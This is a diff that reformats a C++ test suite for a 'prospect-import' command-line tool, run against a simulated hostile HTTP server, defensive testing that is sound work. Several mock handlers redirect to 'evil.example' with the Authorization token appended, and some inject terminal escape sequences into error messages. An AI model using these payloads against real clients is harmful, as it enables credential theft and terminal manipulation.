@@ -9,8 +9,8 @@
 
 #include <atomic>
 #include <cstdio>
-#include <sstream>
 #include <nlohmann/json.hpp>
+#include <sstream>
 
 #include "hostile_server.h"
 #include "prospect_import/text.h"
@@ -24,18 +24,18 @@ namespace {
 namespace fs = std::filesystem;
 using nlohmann::json;
 using testing::ChildProcess;
+using ::testing::HasSubstr;
 using testing::HostileConnection;
 using testing::HostileRequest;
 using testing::HostileServer;
 using testing::http_answer;
 using testing::listing_page;
+using ::testing::Not;
 using testing::read_file;
 using testing::read_report;
 using testing::RunResult;
 using testing::TempDir;
 using testing::write_file;
-using ::testing::HasSubstr;
-using ::testing::Not;
 
 using Env = std::map<std::string, std::string>;
 
@@ -49,10 +49,12 @@ constexpr auto k_run_limit = std::chrono::seconds(60);
 const std::string k_groups_path = "/Advertisers/IRhostile01/Campaigns/1001/MediaPartnerGroups";
 const std::string k_first_page = k_groups_path + "?Page=1&PageSize=1000";
 const std::string k_too_large =
-    "the answer is larger than 4 MiB, so the tool stopped reading it (not an answer of the API: check --api-base)";
+    "the answer is larger than 4 MiB, so the tool stopped reading it (not an answer of the API: "
+    "check --api-base)";
 
 // One valid row, on line 2.
-const std::string k_one_row = "Partner Name,Contact Email,Media Property\nAcme Media,bob@acme-media.com,acme-media.com\n";
+const std::string k_one_row =
+    "Partner Name,Contact Email,Media Property\nAcme Media,bob@acme-media.com,acme-media.com\n";
 
 Env credentials() {
   Env env = testing::base_environment();
@@ -78,7 +80,8 @@ class Work {
     args.insert(args.end(), extra.begin(), extra.end());
     args.push_back((m_dir / "p.csv").string());
     Env env = credentials();
-    env["XDG_STATE_HOME"] = (m_dir / "state").string();  // what the tool keeps between runs stays here
+    env["XDG_STATE_HOME"] =
+        (m_dir / "state").string();  // what the tool keeps between runs stays here
     ChildProcess tool(ChildProcess::Spec{PI_BINARY, args, env, m_dir / "out", m_dir / "err"});
     const auto code = tool.wait(k_run_limit);
     EXPECT_TRUE(code.has_value()) << "prospect-import still running after 60 s";
@@ -120,15 +123,22 @@ HostileServer::Handler groups_pages(std::function<std::string(int page)> page_an
   };
 }
 
-std::string page_uri(int n) { return k_groups_path + "?Page=" + std::to_string(n) + "&PageSize=1000"; }
+std::string page_uri(int n) {
+  return k_groups_path + "?Page=" + std::to_string(n) + "&PageSize=1000";
+}
 
 std::string created(const std::string& id) {
-  return http_answer(201, json{{"Status", "OK"}, {"ProspectId", id}, {"DryRun", false},
-                               {"MatchedPartnerId", ""}, {"MatchedPartnerName", ""}}.dump());
+  return http_answer(201, json{{"Status", "OK"},
+                               {"ProspectId", id},
+                               {"DryRun", false},
+                               {"MatchedPartnerId", ""},
+                               {"MatchedPartnerName", ""}}
+                              .dump());
 }
 
 std::string conflict(const std::string& id) {
-  return http_answer(409, json{{"Status", "ERROR"}, {"Message", "Conflict"}, {"ProspectId", id}}.dump());
+  return http_answer(409,
+                     json{{"Status", "ERROR"}, {"Message", "Conflict"}, {"ProspectId", id}}.dump());
 }
 
 // The one row was not attempted, for `why`; the summary says so.
@@ -164,7 +174,9 @@ void expect_created(const Work& work, const std::string& prospect_id) {
 
 TEST(Hostile, AHugeListingPageStopsTheRunNamingTheCause) {
   HostileServer server([](const HostileRequest&, HostileConnection& c) {
-    if (!c.write("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2147483648\r\n\r\n")) return;
+    if (!c.write("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: "
+                 "2147483648\r\n\r\n"))
+      return;
     const std::string block(0x10000, '[');
     while (c.write(block)) {
     }
@@ -172,14 +184,16 @@ TEST(Hostile, AHugeListingPageStopsTheRunNamingTheCause) {
   Work work;
   auto r = work.run(server.base_url(), {"--max-retries", "0"});
   EXPECT_EQ(r.exit_code, 69) << r.err;
-  const std::string why = "no usable answer to GET " + server.base_url() + k_first_page + ": " + k_too_large;
+  const std::string why =
+      "no usable answer to GET " + server.base_url() + k_first_page + ": " + k_too_large;
   EXPECT_EQ(first_line(r.err), "error: " + why + "\n");
   expect_not_attempted(work, why);
 }
 
 TEST(Hostile, AnEndlessCreateAnswerFailsTheRowAsTransient) {
   HostileServer server(api([](const HostileRequest&, HostileConnection& c) {
-    if (!c.write("HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")) {
+    if (!c.write("HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nTransfer-Encoding: "
+                 "chunked\r\n\r\n")) {
       return;
     }
     const std::string chunk = "10000\r\n" + std::string(0x10000, ' ') + "\r\n";
@@ -190,8 +204,8 @@ TEST(Hostile, AnEndlessCreateAnswerFailsTheRowAsTransient) {
   auto r = work.run(server.base_url(), {"--max-retries", "0"});
   EXPECT_EQ(r.exit_code, 1) << r.err;
   expect_failed(work, "failed: failed after 1 attempts: " + k_too_large);
-  EXPECT_THAT(r.err, HasSubstr((work.dir() / "p.csv").string() + ":2: failed: failed after 1 attempts: " +
-                               k_too_large + "\n"));
+  EXPECT_THAT(r.err, HasSubstr((work.dir() / "p.csv").string() +
+                               ":2: failed: failed after 1 attempts: " + k_too_large + "\n"));
 }
 
 // --- slow servers end with --timeout ---
@@ -201,14 +215,16 @@ TEST(Hostile, SlowHeadersOnTheListingTimeOut) {
   Work work;
   auto r = work.run(server.base_url(), {"--timeout", "1", "--max-retries", "0"});
   EXPECT_EQ(r.exit_code, 69) << r.err;
-  const std::string why = "no usable answer to GET " + server.base_url() + k_first_page + ": Timeout was reached";
+  const std::string why =
+      "no usable answer to GET " + server.base_url() + k_first_page + ": Timeout was reached";
   EXPECT_EQ(first_line(r.err), "error: " + why + "\n");
   expect_not_attempted(work, why);
 }
 
 TEST(Hostile, ATricklingCreateAnswerTimesOut) {
   HostileServer server(api([](const HostileRequest&, HostileConnection& c) {
-    if (!c.write("HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")) {
+    if (!c.write("HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nTransfer-Encoding: "
+                 "chunked\r\n\r\n")) {
       return;
     }
     while (c.write("1\r\n \r\n") && c.pause(std::chrono::milliseconds(100))) {
@@ -229,8 +245,8 @@ TEST(Hostile, APageThatPointsBackToItselfEndsTheListing) {
   Work work;
   auto r = work.run(server.base_url());
   EXPECT_EQ(r.exit_code, 69) << r.err;
-  const std::string why = "the API's listing of Groups loops: page 1 points back to " + server.base_url() +
-                          k_first_page + ", which was read already";
+  const std::string why = "the API's listing of Groups loops: page 1 points back to " +
+                          server.base_url() + k_first_page + ", which was read already";
   EXPECT_EQ(first_line(r.err), "error: " + why + "\n");
   EXPECT_EQ(server.requests().size(), 1u);
   expect_not_attempted(work, why);
@@ -238,8 +254,9 @@ TEST(Hostile, APageThatPointsBackToItselfEndsTheListing) {
 
 TEST(Hostile, ALaterPageThatPointsBackEndsTheListing) {
   HostileServer server(groups_pages([](int page) {
-    return http_answer(200, listing_page("Groups", {{std::to_string(page), "G" + std::to_string(page)}}, "3",
-                                         page_uri(page == 3 ? 2 : page + 1)));
+    return http_answer(
+        200, listing_page("Groups", {{std::to_string(page), "G" + std::to_string(page)}}, "3",
+                          page_uri(page == 3 ? 2 : page + 1)));
   }));
   Work work;
   auto r = work.run(server.base_url());
@@ -251,14 +268,17 @@ TEST(Hostile, ALaterPageThatPointsBackEndsTheListing) {
 
 TEST(Hostile, MorePagesThanNumpagesPromisedEndTheListing) {
   HostileServer server(groups_pages([](int page) {
-    return http_answer(200, listing_page("Groups", {{std::to_string(page), "G" + std::to_string(page)}}, "2",
-                                         page_uri(page + 1)));
+    return http_answer(
+        200, listing_page("Groups", {{std::to_string(page), "G" + std::to_string(page)}}, "2",
+                          page_uri(page + 1)));
   }));
   Work work;
   auto r = work.run(server.base_url());
   EXPECT_EQ(r.exit_code, 69) << r.err;
-  EXPECT_EQ(first_line(r.err), "error: the API's listing of Groups goes on past the 2 pages its @numpages promised "
-                               "(page 2 points to " + server.base_url() + page_uri(3) + ")\n");
+  EXPECT_EQ(first_line(r.err),
+            "error: the API's listing of Groups goes on past the 2 pages its @numpages promised "
+            "(page 2 points to " +
+                server.base_url() + page_uri(3) + ")\n");
   EXPECT_EQ(server.requests().size(), 2u);
 }
 
@@ -266,29 +286,35 @@ TEST(Hostile, MorePagesThanNumpagesPromisedEndTheListing) {
 
 TEST(Hostile, A404OnPage2IsNotAMissingProgram) {
   HostileServer server(groups_pages([](int page) {
-    if (page == 1) return http_answer(200, listing_page("Groups", {{"1", "Bloggers"}}, "2", page_uri(2)));
+    if (page == 1)
+      return http_answer(200, listing_page("Groups", {{"1", "Bloggers"}}, "2", page_uri(2)));
     return http_answer(404, R"({"Status": "ERROR", "Message": "Not Found"})");
   }));
   Work work;
   auto r = work.run(server.base_url());
   EXPECT_EQ(r.exit_code, 69) << r.err;
-  EXPECT_EQ(first_line(r.err), "error: the API answered 404: Not Found to page 2 of the listing of Groups (GET " +
-                                   server.base_url() + page_uri(2) +
-                                   "): the listing changed while it was read, or its @nextpageuri is wrong; "
-                                   "try again\n");
+  EXPECT_EQ(first_line(r.err),
+            "error: the API answered 404: Not Found to page 2 of the listing of Groups (GET " +
+                server.base_url() + page_uri(2) +
+                "): the listing changed while it was read, or its @nextpageuri is wrong; "
+                "try again\n");
   EXPECT_THAT(r.err, Not(HasSubstr("does not exist")));
 }
 
 TEST(Hostile, ARedirectSaysWhereItPointsAndIsNotFollowed) {
   HostileServer server([](const HostileRequest& r, HostileConnection& c) {
-    c.write(http_answer(302, "", {{"Location", "http://evil.example/collect?auth=" + r.headers.at("authorization")}}));
+    c.write(http_answer(
+        302, "",
+        {{"Location", "http://evil.example/collect?auth=" + r.headers.at("authorization")}}));
   });
   Work work;
   auto r = work.run(server.base_url());
   EXPECT_EQ(r.exit_code, 69) << r.err;
   EXPECT_EQ(first_line(r.err),
-            "error: the API answered 302, a redirect to \"http://evil.example/collect?auth=Basic [redacted]\" that "
-            "is not followed (check --api-base) to GET " + server.base_url() + k_first_page + "\n");
+            "error: the API answered 302, a redirect to \"http://evil.example/collect?auth=Basic "
+            "[redacted]\" that "
+            "is not followed (check --api-base) to GET " +
+                server.base_url() + k_first_page + "\n");
   EXPECT_EQ(server.requests().size(), 1u);
 }
 
@@ -297,7 +323,9 @@ TEST(Hostile, ARateLimitWaitWhileLoadingGroupsIsSaid) {
   HostileServer server([&asked](const HostileRequest&, HostileConnection& c) {
     if (asked++ == 0) {
       c.write(http_answer(429, R"({"Status": "ERROR", "Message": "Too Many Requests"})",
-                          {{"X-RateLimit-Limit", "1000"}, {"X-RateLimit-Remaining", "0"}, {"X-RateLimit-Reset", "1"}}));
+                          {{"X-RateLimit-Limit", "1000"},
+                           {"X-RateLimit-Remaining", "0"},
+                           {"X-RateLimit-Reset", "1"}}));
     } else {
       c.write(http_answer(200, listing_page("Groups", {}, "0", "")));
     }
@@ -305,8 +333,9 @@ TEST(Hostile, ARateLimitWaitWhileLoadingGroupsIsSaid) {
   Work work("Partner Name,Contact Email,Media Property\n");
   auto r = work.run(server.base_url(), {"-v"});
   EXPECT_EQ(r.exit_code, 0) << r.err;
-  EXPECT_THAT(lines_of(r.err), ::testing::Contains("the API answered 429 (too many requests): waiting 1s for its "
-                                                   "rate limit before page 1 of the listing of Groups"));
+  EXPECT_THAT(lines_of(r.err),
+              ::testing::Contains("the API answered 429 (too many requests): waiting 1s for its "
+                                  "rate limit before page 1 of the listing of Groups"));
 }
 
 // --- item 11: answers of the wrong shape may have been committed ---
@@ -330,7 +359,8 @@ TEST(Hostile, A201WithoutProspectIdIsRetriedAndA409SettlesIt) {
 }
 
 TEST(Hostile, A200HtmlPageToACreateIsRetriedAndA409SettlesIt) {
-  expect_settled_by_a_conflict(http_answer(200, "<html><body>Welcome</body></html>", {{"Content-Type", "text/html"}}));
+  expect_settled_by_a_conflict(
+      http_answer(200, "<html><body>Welcome</body></html>", {{"Content-Type", "text/html"}}));
 }
 
 TEST(Hostile, A200HtmlPageToACreateIsAFailureNotARejection) {
@@ -340,8 +370,10 @@ TEST(Hostile, A200HtmlPageToACreateIsAFailureNotARejection) {
   Work work;
   auto r = work.run(server.base_url(), {"--max-retries", "0"});
   EXPECT_EQ(r.exit_code, 1) << r.err;
-  expect_failed(work, "failed: failed after 1 attempts: the API answered 200 with a body that is not JSON: "
-                      "\"<html><body>Welcome</body></html>\"");
+  expect_failed(
+      work,
+      "failed: failed after 1 attempts: the API answered 200 with a body that is not JSON: "
+      "\"<html><body>Welcome</body></html>\"");
 }
 
 TEST(Hostile, A201WithoutProspectIdIsNeverCreatedWithAnEmptyId) {
@@ -388,14 +420,16 @@ std::vector<std::string> secret_forms() {
 // Echoes the request's head (with its Authorization) and its percent-encoded
 // form: in a 400's JSON Message, a 500's page, and a 302's Location and body.
 void echo(const HostileRequest& r, HostileConnection& c) {
-  const std::string echoed = r.head + "\r\nencoded: " + percent_encoded(r.headers.at("authorization"));
+  const std::string echoed =
+      r.head + "\r\nencoded: " + percent_encoded(r.headers.at("authorization"));
   if (r.body.find("ContactEmail=a%40") != std::string::npos) {
     c.write(http_answer(400, json{{"Status", "ERROR"}, {"Message", "you sent: " + echoed}}.dump()));
   } else if (r.body.find("ContactEmail=b%40") != std::string::npos) {
     c.write(http_answer(500, "<pre>" + echoed + "</pre>", {{"Content-Type", "text/html"}}));
   } else {
     c.write(http_answer(302, echoed,
-                        {{"Location", "http://evil.example/?auth=" + percent_encoded(r.headers.at("authorization"))}}));
+                        {{"Location", "http://evil.example/?auth=" +
+                                          percent_encoded(r.headers.at("authorization"))}}));
   }
 }
 
@@ -412,13 +446,16 @@ TEST(Hostile, TheTokenIsInNoOutputReportOrJournal) {
   EXPECT_EQ(r.exit_code, 1) << r.err;
   auto errors = work.errors();
   ASSERT_EQ(errors.size(), 3u);
-  EXPECT_THAT(errors[0].at("Error"), ::testing::StartsWith("the API answered 400: you sent: POST "));
+  EXPECT_THAT(errors[0].at("Error"),
+              ::testing::StartsWith("the API answered 400: you sent: POST "));
   EXPECT_THAT(errors[0].at("Error"), HasSubstr(" Authorization: Basic [redacted] "));
   EXPECT_THAT(errors[1].at("Error"),
-              ::testing::StartsWith("failed: failed after 1 attempts: the API answered 500 with a body that is not "
-                                    "JSON: \"<pre>POST "));
+              ::testing::StartsWith(
+                  "failed: failed after 1 attempts: the API answered 500 with a body that is not "
+                  "JSON: \"<pre>POST "));
   EXPECT_EQ(errors[2].at("Error"),
-            "the API answered 302, a redirect to \"http://evil.example/?auth=Basic%20[redacted]\" that is not followed "
+            "the API answered 302, a redirect to \"http://evil.example/?auth=Basic%20[redacted]\" "
+            "that is not followed "
             "(check --api-base)");
   ASSERT_FALSE(server.requests().empty());
   for (const auto& secret : secret_forms()) {
@@ -448,11 +485,13 @@ bool has_stray_control(const std::string& s) {
 TEST(Hostile, EscapeCodesNulAndInvalidUtf8NeverReachTheTerminalOrTheReports) {
   HostileServer server(api([](const HostileRequest& r, HostileConnection& c) {
     if (r.body.find("ContactEmail=a%40") != std::string::npos) {
-      c.write(http_answer(400, R"({"Status": "ERROR", "Message": "x",)"
-                               R"( "Errors": [{"Field": "ContactEmail", "Message": "\u001b]0;pwned\u0007)"
-                               R"(\u001b[2Jbad\u0000 address\u009b"}]})"));
+      c.write(http_answer(
+          400, R"({"Status": "ERROR", "Message": "x",)"
+               R"( "Errors": [{"Field": "ContactEmail", "Message": "\u001b]0;pwned\u0007)"
+               R"(\u001b[2Jbad\u0000 address\u009b"}]})"));
     } else {
-      c.write(http_answer(500, std::string("<h1>\x1b[31mdown\0\xff\xfe!</h1>", 22), {{"Content-Type", "text/html"}}));
+      c.write(http_answer(500, std::string("<h1>\x1b[31mdown\0\xff\xfe!</h1>", 22),
+                          {{"Content-Type", "text/html"}}));
     }
   }));
   Work work(
@@ -464,8 +503,9 @@ TEST(Hostile, EscapeCodesNulAndInvalidUtf8NeverReachTheTerminalOrTheReports) {
   auto errors = work.errors();
   ASSERT_EQ(errors.size(), 2u);
   EXPECT_EQ(errors[0].at("Error"), "Contact Email: ]0;pwned[2Jbad address");
-  EXPECT_EQ(errors[1].at("Error"), "failed: failed after 1 attempts: the API answered 500 with a body that is not "
-                                   "JSON: \"<h1>[31mdown\xEF\xBF\xBD\xEF\xBF\xBD!</h1>\"");
+  EXPECT_EQ(errors[1].at("Error"),
+            "failed: failed after 1 attempts: the API answered 500 with a body that is not "
+            "JSON: \"<h1>[31mdown\xEF\xBF\xBD\xEF\xBF\xBD!</h1>\"");
   EXPECT_FALSE(has_stray_control(r.err));
   for (const auto& f : fs::recursive_directory_iterator(work.report())) {
     if (!f.is_regular_file()) continue;
@@ -486,42 +526,47 @@ TEST_P(HostileTls, AFlawedCertificateWithCacertDoesNotAskForCacert) {
   Work work;
   auto r = work.run(sandbox.base_url(), {"--cacert", tls.ca.string()});
   EXPECT_EQ(r.exit_code, 69) << r.err;
-  const std::string detail = GetParam() == testing::CertFlaw::expired
-                                 ? "SSL certificate problem: certificate has expired"
-                                 : "SSL: no alternative certificate subject name matches target host name '127.0.0.1'";
-  EXPECT_EQ(first_line(r.err), "error: cannot reach the API at " + sandbox.base_url() + ": " + detail +
-                                   " (the server's certificate could not be verified with the CA of --cacert " +
-                                   tls.ca.string() +
-                                   ": it must be current, issued by that CA and name the host of --api-base)\n");
+  const std::string detail =
+      GetParam() == testing::CertFlaw::expired
+          ? "SSL certificate problem: certificate has expired"
+          : "SSL: no alternative certificate subject name matches target host name '127.0.0.1'";
+  EXPECT_EQ(first_line(r.err),
+            "error: cannot reach the API at " + sandbox.base_url() + ": " + detail +
+                " (the server's certificate could not be verified with the CA of --cacert " +
+                tls.ca.string() +
+                ": it must be current, issued by that CA and name the host of --api-base)\n");
 }
 
-INSTANTIATE_TEST_SUITE_P(Flaws, HostileTls,
-                         ::testing::Values(testing::CertFlaw::expired, testing::CertFlaw::wrong_name),
-                         [](const auto& p) {
-                           return std::string(p.param == testing::CertFlaw::expired ? "expired" : "wrong_name");
-                         });
+INSTANTIATE_TEST_SUITE_P(
+    Flaws, HostileTls, ::testing::Values(testing::CertFlaw::expired, testing::CertFlaw::wrong_name),
+    [](const auto& p) {
+      return std::string(p.param == testing::CertFlaw::expired ? "expired" : "wrong_name");
+    });
 
 TEST(Hostile, AMissingCacertFileIsAConfigurationError) {
-  HostileServer server(api([](const HostileRequest&, HostileConnection& c) { c.write(created("P-1")); }));
+  HostileServer server(
+      api([](const HostileRequest&, HostileConnection& c) { c.write(created("P-1")); }));
   Work work;
   const std::string missing = (work.dir() / "missing.pem").string();
   auto r = work.run(server.base_url(), {"--cacert", missing});
   EXPECT_EQ(r.exit_code, 78) << r.err;
-  EXPECT_EQ(first_line(r.err),
-            "error: cannot read the CA bundle given with --cacert, " + missing + ": No such file or directory\n");
+  EXPECT_EQ(first_line(r.err), "error: cannot read the CA bundle given with --cacert, " + missing +
+                                   ": No such file or directory\n");
   EXPECT_TRUE(server.requests().empty());
 }
 
 TEST(Hostile, AGarbageCacertFileIsAConfigurationError) {
-  HostileServer server(api([](const HostileRequest&, HostileConnection& c) { c.write(created("P-1")); }));
+  HostileServer server(
+      api([](const HostileRequest&, HostileConnection& c) { c.write(created("P-1")); }));
   Work work;
   const fs::path garbage = work.dir() / "garbage.pem";
   write_file(garbage, "this is not a certificate\n");
   auto r = work.run(server.base_url(), {"--cacert", garbage.string()});
   EXPECT_EQ(r.exit_code, 78) << r.err;
-  EXPECT_EQ(first_line(r.err), "error: the CA bundle given with --cacert, " + garbage.string() +
-                                   ", holds no certificate that can be read (it needs one or more PEM blocks "
-                                   "\"-----BEGIN CERTIFICATE-----\")\n");
+  EXPECT_EQ(first_line(r.err),
+            "error: the CA bundle given with --cacert, " + garbage.string() +
+                ", holds no certificate that can be read (it needs one or more PEM blocks "
+                "\"-----BEGIN CERTIFICATE-----\")\n");
   EXPECT_TRUE(server.requests().empty());
 }
 
